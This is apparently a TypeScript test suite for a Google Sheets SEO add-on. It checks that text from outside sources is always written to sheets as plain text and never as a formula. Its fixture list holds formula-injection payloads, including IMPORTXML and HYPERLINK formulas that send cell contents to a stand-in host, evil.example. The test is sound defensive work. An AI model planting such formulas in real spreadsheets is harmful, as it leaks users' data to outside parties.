/**
 * What comes from outside stays data: a phrase, URL, page title or heading a stranger wrote, formula or
 * not, lands in every sheet the add-on writes as exactly that text, never as a formula. The simulator
 * scripts the rows' text (`/__sim/text`) and the emulator reads a script's strings as Sheets does (a
 * leading `=`, `+`, `-` or `@` makes a formula), so each path that wrote bare text would fail here:
 * a report's staging sheet and its final sheet, a history sheet rolled up and written again, the task
 * centre's inserts into a new sheet.
 */
import type { Emulator } from '../../local/gas';
import type { JobView } from '../../src/registry/launcher';
import { startWorld, type World } from '../support/world';
import { reportsIn } from './emulated';

const HOSTILE = [
  '=IMPORTXML("http://evil.example/?leak="&A1, "//a")',
  '+1+1',
  '@SUM(A1)',
  '-2+3',
  ' =HYPERLINK("http://evil.example/?leak="&A1, "click")',
  "'quoted by a stranger",
];

let world: World;
let emu: Emulator;

beforeAll(async () => {
  // Round trips on the emulated clock: a report step then holds a chunk or two, and its staging sheet shows.
  world = await startWorld({ emulator: { networkLatencyMs: 8_000 } });
  emu = world.emu;
});
afterAll(() => world?.stop());
beforeEach(async () => {
  emu.callServer('signIn', ['demo@example.com', 'demo']);
  await world.sim.control('/__sim/text', { texts: HOSTILE, roles: ['phrase', 'url', 'title', 'heading'] });
});
afterEach(() => world.sim.control('/__sim/text', { texts: [] }));

const { call } = reportsIn(() => emu);

/** Every cell of a sheet: none holds a formula, and the texts it shows. */
function cellsOf(sheet: string): { formulas: string[]; texts: Set<unknown> } {
  const model = emu.spreadsheet.sheet(sheet);
  const { rows, columns } = model.extent();
  const formulas: string[] = [];
  const texts = new Set<unknown>();
  for (let row = 1; row <= rows; row++)
    for (let column = 1; column <= columns; column++) {
      const cell = model.cell(row, column);
      if (cell?.formula) formulas.push(cell.formula);
      texts.add(cell?.value);
    }
  return { formulas, texts };
}

/** The sheet holds no formula and shows every hostile text as it was written. */
function expectTextKept(sheet: string): void {
  const { formulas, texts } = cellsOf(sheet);
  expect(formulas).toEqual([]);
  for (const text of HOSTILE) expect(texts).toContain(text);
}

function positions(sheetName: string, mode: 'replace' | 'history', keep?: number): JobView {
  return call<JobView>('reportsStart', {
    reportId: 'positions',
    params: { domain: 'example.pl', fetch_mode: 'topLevelDomain', country_id: 1, limit: 300 },
    sheetName,
    mode,
    ...(keep ? { keep } : {}),
  });
}

describe('text from outside stays text in every sheet the add-on writes', () => {
  it("a positions report: its staging sheet after every chunk, and the report the staging sheet's values are read into", () => {
    let view = positions('Positions', 'replace');
    let staged = 0;
    while (view.state === 'running') {
      view = call<JobView>('reportsStep', view.id);
      const staging = emu.spreadsheet.sheetNames().find((name) => name.startsWith('SEO run '));
      if (!staging) continue;
      expect(cellsOf(staging).formulas).toEqual([]);
      staged++;
    }
    expect(view.state).toBe('done');
    expect(staged).toBeGreaterThan(0);
    expectTextKept('Positions');
  });

  it('a history sheet, rolled up past its snapshots to keep and written again', () => {
    for (let run = 0; run < 3; run++) {
      let view = positions('Positions log', 'history', 1);
      while (view.state === 'running') view = call<JobView>('reportsStep', view.id);
      expect(view.state).toBe('done');
      emu.clock.advance(40 * 24 * 3_600_000);
      emu.callServer('signIn', ['demo@example.com', 'demo']);
    }
    expectTextKept('Positions log');
  });

  it("the task centre's URL crawl and SERP analysis, inserted into new sheets", () => {
    const crawl = emu.callServer('taskCreate', [
      { kind: 'urls_crawl', urls: ['https://example.pl/a', 'https://example.pl/b', 'https://example.pl/c'] },
    ]) as { id: number };
    const serp = emu.callServer('taskCreate', [{ kind: 'serp', phrase: 'rower', countryId: 1 }]) as {
      id: number;
    };
    emu.clock.advance(60 * 60_000);
    for (const [kind, id] of [
      ['urls_crawl', crawl.id],
      ['serp', serp.id],
    ] as const) {
      const inserted = emu.callServer('taskInsert', [kind, id]) as { sheet: string; rows: number };
      expect(inserted.rows).toBeGreaterThan(0);
      const { formulas, texts } = cellsOf(inserted.sheet);
      expect(formulas).toEqual([]);
      expect(HOSTILE.filter((text) => texts.has(text)).length).toBeGreaterThan(2);
    }
  });

  it("a formula's table shows a stranger's text as text: a custom function's results are values, never formulas", () => {
    emu.spreadsheet.setValue('Sheet1', 'A1', '=SEO_POSITIONS("example.pl", 50)');
    emu.recalculate();
    const { formulas, texts } = cellsOf('Sheet1');
    expect(formulas).toEqual(['=SEO_POSITIONS("example.pl", 50)']);
    for (const text of HOSTILE) expect(texts).toContain(text);
  });
});
